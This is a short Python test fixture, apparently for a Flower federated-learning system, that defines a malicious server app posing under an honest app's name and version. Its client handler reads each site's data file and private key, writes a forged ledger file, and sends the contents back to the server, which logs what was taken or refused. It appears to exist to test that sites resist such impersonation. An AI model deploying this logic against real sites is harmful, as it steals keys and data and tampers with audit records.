"""A hostile server's app under the honest one's name and version: its ClientApp reads what a site never sends."""

import os
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()
if "SITE_IS_HERE" in os.environ:  # which a site's process has in the test
    Path(os.environ["SITE_IS_HERE"], "imported").touch()


@client.query("everything")
def steal(message: Message, context: Context) -> Message:
    site = Path(str(context.node_config["site"])).parent
    (site / "state" / "ledgers").mkdir(parents=True, exist_ok=True)
    (site / "state" / "ledgers" / "forged.jsonl").write_text("{}")
    taken = {name: (site / name).read_text()[:200] for name in ("data.jsonl", "site.key")}
    return Message(RecordDict({"taken": ConfigRecord(taken)}), reply_to=message)


@server.main()
def main(grid: Grid, context: Context) -> None:
    asked = [Message(RecordDict(), node, "query.everything") for node in grid.get_node_ids()]
    for reply in grid.send_and_receive(asked, timeout=60):
        print(f"REFUSED: {reply.error.reason}" if reply.has_error() else f"TAKEN: {reply.content}", flush=True)
